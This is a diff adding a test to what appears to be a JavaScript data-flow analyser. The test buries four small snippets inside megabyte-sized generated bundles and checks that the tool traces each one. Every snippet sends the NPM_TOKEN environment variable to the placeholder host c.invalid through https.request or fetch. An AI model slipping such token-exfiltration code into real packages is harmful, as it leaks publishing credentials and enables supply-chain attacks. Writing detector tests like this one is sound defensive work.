@@ -448,3 +448,37 @@ t.test('the order in which entries are added changes nothing', t => {
   t.equal(run(['a.js', 'b.js', 'c.js']), run(['c.js', 'b.js', 'a.js']))
   t.end()
 })
+
+t.test(
+  'a bundle of megabytes is read to the end, and what is hidden in it is found',
+  { timeout: 120_000 },
+  t => {
+    const pure = (at: number) =>
+      `function f${at}(a, b) { const r = []; for (const x of a) r.push(b + x.k${at}); return r.map(y => f${at + 1}([y], b)) }\n`
+    const bundle = (chars: number) => {
+      let text = ''
+      for (let at = 0; text.length < chars; at++) text += pure(at)
+      return text
+    }
+    const hidden = [
+      `function beacon() { require('https').request({ host: 'c.invalid' }).end(process.env.NPM_TOKEN) }\nbeacon()`,
+      `const h = require('https'); const post = d => h.request({ host: 'c.invalid' }).end(d)\nfunction go(d) { post(d) }\ngo(process.env.NPM_TOKEN)`,
+      `const o = { send(d) { fetch('https://c.invalid', { body: d }) } }\nfunction pass(p, d) { return p.send(d) }\npass(o, process.env.NPM_TOKEN)`,
+      `function id(x) { return x }\nfetch('https://c.invalid', { body: id(process.env.NPM_TOKEN) })`,
+    ]
+    for (const chars of [100_000, 1_500_000]) {
+      const text = bundle(chars)
+      for (const code of hidden) {
+        const { flows, gaps } = analyse({
+          'i.js': `${text}${code}\n${text.slice(0, 30_000).replaceAll(/\bf\d/g, 'g$&')}`,
+        })
+        t.strictSame(gaps, [], `${chars}: ${code.slice(0, 40)}`)
+        t.match(
+          flows.find(flow => flow.source.name === 'NPM_TOKEN'),
+          { sink: { kind: 'network' }, phase: 'import' },
+        )
+      }
+    }
+    t.end()
+  },
+)
